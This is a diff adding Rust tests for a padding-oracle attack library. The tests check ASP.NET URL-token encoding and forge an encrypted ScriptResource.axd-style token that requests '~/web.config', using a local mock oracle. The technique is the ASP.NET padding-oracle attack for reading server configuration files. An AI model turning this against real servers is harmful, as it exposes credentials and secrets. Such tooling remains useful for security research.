@@ -0,0 +1,43 @@
+mod common;
+
+use aes::cipher::{block_padding::Pkcs7, BlockDecryptMut, KeyIvInit};
+use common::{oracle, KEY};
+use padding_oracle::aspnet;
+
+#[test]
+fn it_encodes_url_tokens() {
+    for len in 0..8 {
+        let bytes: Vec<u8> = (0..len).map(|i| 0xf8 + i).collect();
+        let token = aspnet::url_token_encode(&bytes);
+
+        assert!(!token.contains(['=', '+', '/']));
+        assert_eq!(aspnet::url_token_decode(&token), Some(bytes));
+    }
+
+    assert_eq!(aspnet::url_token_decode("YWJj1"), None);
+    assert_eq!(aspnet::url_token_decode("YW?j0"), None);
+}
+
+#[test]
+fn it_forges_file_downloads() {
+    // Like ScriptResource.axd, without IV: the padding oracle decrypts the whole token
+    let payload = aspnet::file_download_payload("~/web.config");
+    let forged = padding_oracle::encrypt(&payload, 16, oracle).unwrap();
+
+    // Serves the file when the garbage starts with a valid request type
+    let script_resource = |token: &[u8]| {
+        let mut buf = token.to_vec();
+        cbc::Decryptor::<aes::Aes128>::new(&KEY.into(), &[0; 16].into())
+            .decrypt_padded_mut::<Pkcs7>(&mut buf)
+            .is_ok_and(|plaintext| plaintext[0] == b'R' && plaintext.ends_with(&payload))
+    };
+    assert!(!script_resource(&forged));
+
+    let token = aspnet::find_garbage_block(&forged, 16, script_resource, 10_000, 42).unwrap();
+    let token = token.expect("a garbage block starting with R");
+    assert_eq!(token.len(), forged.len() + 16);
+    assert!(script_resource(&token));
+
+    let none = aspnet::find_garbage_block(&forged, 16, |_: &[u8]| false, 10, 42).unwrap();
+    assert_eq!(none, None);
+}